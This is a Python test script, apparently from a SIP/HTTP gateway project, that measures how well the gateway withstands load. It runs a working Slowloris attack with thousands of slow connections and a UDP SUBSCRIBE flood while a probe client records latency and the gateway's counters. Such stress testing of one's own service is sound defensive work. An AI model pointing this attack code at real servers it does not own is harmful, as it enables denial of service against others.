#!/usr/bin/env python3
"""Slowloris and a SUBSCRIBE flood against a running gateway, with a
well-behaved client measuring latency (issue 17 item 5; run by
slowloris.sh).

Phases: `--baseline` seconds of the well-behaved client alone; then the
attack for `--attack` seconds: `--conns` connections (half to the HTTP
port, half to the SIP TCP port, from 127.0.0.2) each dribbling one byte of
a never-ending request every `--dribble` seconds, plus a flood of
SUBSCRIBEs over UDP from one source (127.0.0.3; `--flood-rate` per second,
ten watchers cycling over many presentities). Meanwhile the well-behaved
client (127.0.0.1) sends OPTIONS over UDP and over a fresh TCP connection,
and GET /healthz over a fresh HTTP connection, each every 100 ms, and
records the latency (or the failure) of each. Python 3 standard library
(asyncio) only; every loop is bounded by the phase deadlines. Prints a
JSON report on stdout.
"""

import argparse
import asyncio
import json
import random
import socket
import time


def pct(xs, p):
    if not xs:
        return None
    xs = sorted(xs)
    return round(xs[min(len(xs) - 1, int(len(xs) * p))] * 1000, 2)


class Probe:
    def __init__(self):
        self.lat = {"before": {}, "during": {}}
        self.fail = {"before": {}, "during": {}}

    def rec(self, phase, kind, dt):
        if dt is None:
            self.fail[phase][kind] = self.fail[phase].get(kind, 0) + 1
        else:
            self.lat[phase].setdefault(kind, []).append(dt)

    def report(self):
        out = {}
        for ph in ("before", "during"):
            for kind in ("sip-udp-options", "sip-tcp-options", "http-healthz"):
                xs = self.lat[ph].get(kind, [])
                out[f"{ph}/{kind}"] = {"ok": len(xs), "failed": self.fail[ph].get(kind, 0),
                                       "p50_ms": pct(xs, 0.5), "p99_ms": pct(xs, 0.99),
                                       "max_ms": pct(xs, 1.0)}
        return out


OPTIONS = ("OPTIONS sip:gw@example.com SIP/2.0\r\nVia: SIP/2.0/{t} 127.0.0.1:{port};branch=z9hG4bK-o{n};rport\r\n"
           "Max-Forwards: 70\r\nFrom: <sip:probe@example.com>;tag=o{n}\r\nTo: <sip:gw@example.com>\r\n"
           "Call-ID: o{n}@probe\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n")


async def udp_options(host, port, n, timeout=2.0):
    loop = asyncio.get_running_loop()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.setblocking(False)
    try:
        t0 = time.monotonic()
        msg = OPTIONS.format(t="UDP", port=s.getsockname()[1], n=n).encode()
        await loop.sock_sendto(s, msg, (host, port))
        data = await asyncio.wait_for(loop.sock_recv(s, 4096), timeout)
        return time.monotonic() - t0 if data.startswith(b"SIP/2.0 200") else None
    except (asyncio.TimeoutError, OSError):
        return None
    finally:
        s.close()


async def tcp_options(host, port, n, timeout=2.0):
    t0 = time.monotonic()
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=("127.0.0.1", 0)), timeout)
    except (asyncio.TimeoutError, OSError):
        return None
    try:
        w.write(OPTIONS.format(t="TCP", port=w.get_extra_info("sockname")[1], n=n).encode())
        data = await asyncio.wait_for(r.read(4096), timeout)
        return time.monotonic() - t0 if data.startswith(b"SIP/2.0 200") else None
    except (asyncio.TimeoutError, OSError):
        return None
    finally:
        w.close()


async def healthz(host, port, timeout=2.0):
    t0 = time.monotonic()
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=("127.0.0.1", 0)), timeout)
    except (asyncio.TimeoutError, OSError):
        return None
    try:
        w.write(b"GET /healthz HTTP/1.1\r\nHost: gw\r\nConnection: close\r\n\r\n")
        data = await asyncio.wait_for(r.read(4096), timeout)
        return time.monotonic() - t0 if data.startswith(b"HTTP/1.1 200") else None
    except (asyncio.TimeoutError, OSError):
        return None
    finally:
        w.close()


async def gateway_counters(host, port, timeout=5.0):
    """The gateway's connection-limit counters from /metrics (what it
    refused and closed, by reason), to set beside what the attacker saw."""
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=("127.0.0.1", 0)), timeout)
    except (asyncio.TimeoutError, OSError):
        return None
    try:
        w.write(b"GET /metrics HTTP/1.1\r\nHost: gw\r\nConnection: close\r\n\r\n")
        data = b""
        while len(data) < 4 << 20:
            chunk = await asyncio.wait_for(r.read(65536), timeout)
            if not chunk:
                break
            data += chunk
    except (asyncio.TimeoutError, OSError):
        return None
    finally:
        w.close()
    out = {}
    for line in data.decode(errors="replace").splitlines():
        if line.startswith(("sipgw_sip_connections_", "sipgw_http_connections_")):
            k, _, v = line.rpartition(" ")
            out[k] = float(v)
    return out


async def prober(a, probe, phase_of, stop_at):
    n = 0
    while time.monotonic() < stop_at:
        n += 1
        ph = phase_of()
        res = await asyncio.gather(udp_options(a.host, a.sip, n), tcp_options(a.host, a.sip, n),
                                   healthz(a.host, a.http))
        for kind, dt in zip(("sip-udp-options", "sip-tcp-options", "http-healthz"), res):
            probe.rec(ph, kind, dt)
        await asyncio.sleep(0.1)


async def loris(host, port, head, a, stats, key, stop_at):
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=("127.0.0.2", 0)), 5)
    except (asyncio.TimeoutError, OSError):
        stats[key + "_connect_failed"] += 1
        return
    stats[key + "_opened"] += 1
    i = 0
    try:
        while time.monotonic() < stop_at:
            w.write(head[i % len(head):i % len(head) + 1])
            await w.drain()
            i += 1
            # Closed by the gateway? (a read that returns at once)
            try:
                data = await asyncio.wait_for(r.read(1024), a.dribble)
                if not data:
                    stats[key + "_closed_by_gateway"] += 1
                    return
            except asyncio.TimeoutError:
                pass
        stats[key + "_held_to_end"] += 1
    except OSError:
        stats[key + "_closed_by_gateway"] += 1
    finally:
        w.close()


async def flood(a, stats, start_at, stop_at):
    loop = asyncio.get_running_loop()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.3", 0))
    s.setblocking(False)
    port = s.getsockname()[1]
    await asyncio.sleep(max(0, start_at - time.monotonic()))
    n = 0
    codes = {}

    async def reader():
        while time.monotonic() < stop_at + 2:
            try:
                data = await asyncio.wait_for(loop.sock_recv(s, 65536), 0.5)
            except asyncio.TimeoutError:
                continue
            except OSError:
                return
            if data.startswith(b"SIP/2.0 "):
                c = data[8:11].decode(errors="replace")
                codes[c] = codes.get(c, 0) + 1
            elif data.startswith(b"NOTIFY"):
                # 200 to the NOTIFYs, as a subscriber would.
                head = data.split(b"\r\n\r\n", 1)[0].split(b"\r\n")
                keep = [l for l in head[1:] if l.split(b":", 1)[0].lower() in (b"via", b"from", b"to", b"call-id", b"cseq")]
                try:
                    await loop.sock_sendto(s, b"SIP/2.0 200 OK\r\n" + b"\r\n".join(keep) + b"\r\nContent-Length: 0\r\n\r\n", (a.host, a.sip))
                except OSError:
                    pass
    rt = asyncio.create_task(reader())
    interval = 1.0 / a.flood_rate
    next_t = time.monotonic()
    while time.monotonic() < stop_at:
        n += 1
        w = n % 10
        msg = (f"SUBSCRIBE sip:p{n % 5000}@example.com SIP/2.0\r\n"
               f"Via: SIP/2.0/UDP 127.0.0.3:{port};branch=z9hG4bK-f{n};rport\r\nMax-Forwards: 70\r\n"
               f"From: <sip:flood{w}@example.org>;tag=f{n}\r\nTo: <sip:p{n % 5000}@example.com>\r\n"
               f"Call-ID: f{n}@flood\r\nCSeq: 1 SUBSCRIBE\r\nContact: <sip:flood{w}@127.0.0.3:{port}>\r\n"
               f"Event: presence\r\nExpires: 3600\r\nContent-Length: 0\r\n\r\n").encode()
        try:
            await loop.sock_sendto(s, msg, (a.host, a.sip))
        except OSError:
            stats["flood_send_errors"] += 1
        next_t += interval
        d = next_t - time.monotonic()
        if d > 0:
            await asyncio.sleep(d)
        elif n % 100 == 0:
            await asyncio.sleep(0)
    stats["flood_sent"] = n
    await rt
    stats["flood_answers"] = codes
    s.close()


async def main_async(a):
    probe = Probe()
    stats = {k: 0 for k in ("http_opened", "http_connect_failed", "http_closed_by_gateway", "http_held_to_end",
                            "sip_opened", "sip_connect_failed", "sip_closed_by_gateway", "sip_held_to_end",
                            "flood_send_errors")}
    t0 = time.monotonic()
    attack_at = t0 + a.baseline
    stop_at = attack_at + a.attack
    phase_of = lambda: "before" if time.monotonic() < attack_at else "during"
    tasks = [asyncio.create_task(prober(a, probe, phase_of, stop_at))]
    await asyncio.sleep(a.baseline)
    http_head = b"POST /cpim/v1/notify HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\nX-Pad: " + b"a" * 4000
    sip_head = b"REGISTER sip:example.com SIP/2.0\r\nVia: SIP/2.0/TCP 127.0.0.2;branch=z9hG4bK-l\r\nX-Pad: " + b"a" * 4000
    tasks.append(asyncio.create_task(flood(a, stats, attack_at, stop_at)))
    rng = random.Random(a.seed)
    lor = []
    # Opened in bursts of 200 so the accept queues keep up.
    for i in range(a.conns):
        http = i % 2 == 0
        lor.append(asyncio.create_task(loris(a.host, a.http if http else a.sip, http_head if http else sip_head,
                                             a, stats, "http" if http else "sip", stop_at)))
        if i % 200 == 199:
            await asyncio.sleep(0.05 + rng.random() * 0.01)
    await asyncio.gather(*tasks, *lor)
    return {"config": vars(a), "attack": stats, "latency": probe.report(),
            "gateway_counters": await gateway_counters(a.host, a.http),
            "seconds": round(time.monotonic() - t0, 1)}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--sip", type=int, required=True)
    ap.add_argument("--http", type=int, required=True)
    ap.add_argument("--conns", type=int, default=10000)
    ap.add_argument("--dribble", type=float, default=5.0)
    ap.add_argument("--baseline", type=float, default=5.0)
    ap.add_argument("--attack", type=float, default=30.0)
    ap.add_argument("--flood-rate", type=float, default=2000.0)
    ap.add_argument("--seed", type=int, default=17)
    a = ap.parse_args()
    if not (0 <= a.conns <= 60000 and 0 < a.attack <= 3600 and 0 < a.baseline <= 600 and 0 < a.flood_rate <= 100000):
        raise SystemExit("conns 0..60000, attack 0..3600 s, baseline 0..600 s, flood-rate 0..100000")
    print(json.dumps(asyncio.run(main_async(a)), indent=1, default=str))


if __name__ == "__main__":
    main()
